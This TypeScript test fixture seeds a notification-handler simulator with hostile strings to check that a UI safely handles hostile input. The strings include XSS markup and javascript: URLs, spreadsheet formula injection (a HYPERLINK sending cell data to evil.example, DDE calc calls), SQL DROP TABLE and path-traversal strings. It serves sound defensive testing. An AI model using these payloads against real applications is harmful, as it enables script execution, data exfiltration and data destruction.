// Strings a handler's name or target may hold that have broken other apps: markup and script,
// script URLs, entities, direction and invisible characters, very long text, emoji, mixed
// scripts, spreadsheet formulas, and words that mean something to JavaScript or to a template.
// Every payload that would run, if it ever ran, sets `window.__pwned` and opens an alert.

import type { SeedHandler } from '../../src/sim/simulator'

export const PWNED_FLAG = '__pwned'
/** A host that cannot resolve: a request to it means markup from the corpus became an element. */
export const PWNED_HOST = 'pwn.invalid'

const RUN = `window.${PWNED_FLAG}=1;alert(1)`

export type HostileCategory =
  | 'markup'
  | 'script-url'
  | 'entity'
  | 'bidi'
  | 'invisible'
  | 'long'
  | 'emoji'
  | 'mixed-script'
  | 'formula'
  | 'null-ish'
  | 'template'
  | 'long-url'
  | 'other'

export interface HostileString {
  category: HostileCategory
  value: string
}

const corpus = (category: HostileCategory, values: string[]) =>
  values.map((value) => ({ category, value }))

export const HOSTILE: readonly HostileString[] = [
  ...corpus('markup', [
    `<script>${RUN}</script>`,
    `<img src="//${PWNED_HOST}/img.png" onerror="${RUN}">`,
    `<svg onload="${RUN}"><circle r="40"/></svg>`,
    `"><img src=x onerror=${RUN}>`,
    `'><svg/onload=${RUN}>`,
    `</td></tr></table><iframe srcdoc="<script>parent.${PWNED_FLAG}=1</script>"></iframe>`,
    `<a href="javascript:${RUN}">open me</a>`,
    `<details open ontoggle="${RUN}">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
    `</textarea></title><input autofocus onfocus="${RUN}">`,
    `<style>body{display:none}</style><!--`,
  ]),
  ...corpus('script-url', [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` \u0001javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    `javascript&#58;${RUN}`,
    `&#106;&#97;vascript:${RUN}`,
    `javascript://example.com/%0a${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `vbscript:msgbox(1)`,
  ]),
  ...corpus('entity', [
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;&quot;&#39;&#x3C;&nbsp;&shy;&#0;',
  ]),
  ...corpus('bidi', [
    'invoice\u202Etxt.exe',
    '\u202Bright-to-left \u202Aembedded\u202C unterminated \u2067isolate',
    'ok\u200F\u061C\u200E\u202Dforced\u2066 \u2069\u2069\u202C\u202C',
  ]),
  ...corpus('invisible', [
    '\u200B\u200C\u200D\uFEFF\u2060',
    'ad\u200Bmin\u00AD\u180E',
    'Z\u0334\u0321\u0319a\u0336\u0327l\u0337\u031Bg\u0338\u0322o\u0335\u0327'.repeat(4),
    'bell\u0007 escape\u001B[31mred\u001B[0m',
  ]),
  ...corpus('long', ['W'.repeat(10_000), 'word '.repeat(400).trim()]),
  ...corpus('emoji', ['👨‍👩‍👧‍👦 family 🏳️‍🌈 flag 🏴‍☠️', '🇮🇷🇺🇸🇪🇺🇯🇵🏴󠁧󠁢󠁳󠁣󠁴󠁿', '👩🏽‍💻🧑🏿‍🚀'.repeat(150)]),
  ...corpus('mixed-script', [
    'هشدار سرور 1404 production',
    'تنبيه API v2 خادم ٣ staging',
    'Slack #کانال-۱۲۳ alerts 42',
  ]),
  ...corpus('formula', [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '=1+1',
  ]),
  ...corpus('null-ish', ['null', 'undefined', '__proto__', 'constructor', 'NaN']),
  ...corpus('template', ['{{7*7}}', '${alert(1)}', '{name} {count} $& $1 %s%n']),
  ...corpus('long-url', [
    `https://hooks.example.com/${'segment/'.repeat(600)}end?token=${'t'.repeat(2000)}`,
    `https://${'sub.'.repeat(60)}example.com/hook`,
    'https://user:pass@hooks.slack.com@evil.example.com/services/T0/B0/x',
  ]),
  ...corpus('other', [
    "'; DROP TABLE notification_handlers; --",
    '../../../../etc/passwd',
    'line one\r\nline two\nline three',
    `${'a'.repeat(240)}@${'b'.repeat(240)}.example.com`,
  ]),
]

/** The types with a target field, each given every string as its target. */
export const TARGET_TYPES = ['email', 'webhook', 'slack', 'microsoft_teams', 'google_chat'] as const
const NAMED_TYPES = [...TARGET_TYPES, 'internal_notification'] as const

function plainTarget(type: (typeof NAMED_TYPES)[number], index: number): Record<string, string> {
  if (type === 'internal_notification') return { internal_notification: '' }
  if (type === 'email') return { email: `inbox${index}@example.com`, email_is_confirmed: '1' }
  return { [type]: `https://hooks.example.com/${type}/${index}` }
}

export const targetHandlerName = (type: string, index: number) => `Target ${index + 1} (${type})`
export const unknownHandlerName = (index: number) => `Unknown type ${index + 1}`

/**
 * Seeded as they are, past the create route's tag stripping and length limit, as an older
 * client or a direct database write could have left them: first every string as a name, then
 * as each type's target, then markup and script URLs as an unknown type's setting keys and values.
 */
export function hostileHandlers(): SeedHandler[] {
  const named = HOSTILE.map(({ value }, index) => {
    const type = NAMED_TYPES[index % NAMED_TYPES.length]!
    return { type, name: value, settings: plainTarget(type, index) }
  })
  const targeted = TARGET_TYPES.flatMap((type) =>
    HOSTILE.map(({ value }, index) => ({
      type,
      name: targetHandlerName(type, index),
      settings: type === 'email' ? { email: value, email_is_confirmed: '1' } : { [type]: value },
    })),
  )
  const unknown = HOSTILE.filter(({ category }) => ['markup', 'script-url'].includes(category)).map(
    ({ value }, index) => ({
      type: 'x',
      name: unknownHandlerName(index),
      settings: { [value]: value },
    }),
  )
  return [...named, ...targeted, ...unknown]
}
